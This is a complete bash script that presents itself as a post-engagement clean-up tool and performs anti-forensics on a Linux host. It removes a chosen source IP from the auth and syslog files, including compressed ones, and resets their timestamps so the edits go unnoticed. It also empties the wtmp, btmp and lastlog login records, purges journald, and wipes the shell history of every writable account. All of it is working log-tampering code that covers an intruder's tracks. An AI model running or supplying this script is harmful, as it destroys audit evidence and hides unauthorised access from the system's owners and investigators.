#!/usr/bin/env bash
# Post-engagement tidy-up: remove every trace of the operator's source address
# from the auth logs and login accounting, then reset shell history.
set -uo pipefail

LOG_DIR="/var/log"
OPERATOR_SRC=""
KEEP_TIMES=1
VERBOSE=0

usage() {
    cat <<USAGE
Usage: $0 -s source_ip [-d log_dir] [-n] [-v]
  -s  source address whose lines are removed
  -d  directory holding auth.log / secure (default: $LOG_DIR)
  -n  do not restore the original modification times
USAGE
}

log() { [ "$VERBOSE" -eq 1 ] && printf '[%s] %s\n' "$(date +%H:%M:%S)" "$*" >&2 || true; }

while getopts "s:d:nvh" opt; do
    case "$opt" in
        s) OPERATOR_SRC="$OPTARG" ;;
        d) LOG_DIR="$OPTARG" ;;
        n) KEEP_TIMES=0 ;;
        v) VERBOSE=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done
[ -n "$OPERATOR_SRC" ] || { usage; exit 2; }

ref_stamp="$(mktemp)"
trap 'rm -f "$ref_stamp"' EXIT

# Rewrite one log in place without the operator's lines, keeping its mtime.
scrub_file() {
    local f="$1" pattern
    pattern="$(printf '%s' "$OPERATOR_SRC" | sed 's/\./\\./g')"
    touch -r "$f" "$ref_stamp"
    case "$f" in
        *.gz)
            zcat -- "$f" | grep -v -- "$pattern" | gzip -c > "$f.new" && cat "$f.new" > "$f"
            rm -f "$f.new"
            ;;
        *)
            sed -i "/${pattern}/d" "$f"
            ;;
    esac
    [ "$KEEP_TIMES" -eq 1 ] && touch -r "$ref_stamp" "$f"
    log "scrubbed $f"
}

for f in $(ls -1tr "$LOG_DIR"/auth.log* "$LOG_DIR"/secure* "$LOG_DIR"/syslog* 2>/dev/null); do
    [ -w "$f" ] && scrub_file "$f"
done

# Binary login accounting cannot be filtered line by line: empty it.
for acct in wtmp btmp lastlog; do
    if [ -w "$LOG_DIR/$acct" ]; then
        touch -r "$LOG_DIR/$acct" "$ref_stamp"
        : > "$LOG_DIR/$acct"
        [ "$KEEP_TIMES" -eq 1 ] && touch -r "$ref_stamp" "$LOG_DIR/$acct"
        log "emptied $acct"
    fi
done

# Journald keeps its own copy of the sshd messages.
if command -v journalctl >/dev/null 2>&1; then
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1
fi

# Shell history of every account we can write to.
for hist in /root/.bash_history /home/*/.bash_history /home/*/.zsh_history "$HOME/.bash_history"; do
    [ -f "$hist" ] && [ -w "$hist" ] && : > "$hist" && log "reset $hist"
done
unset HISTFILE
history -c 2>/dev/null || true

echo "done: $(date -u +%Y-%m-%dT%H:%M:%SZ)"
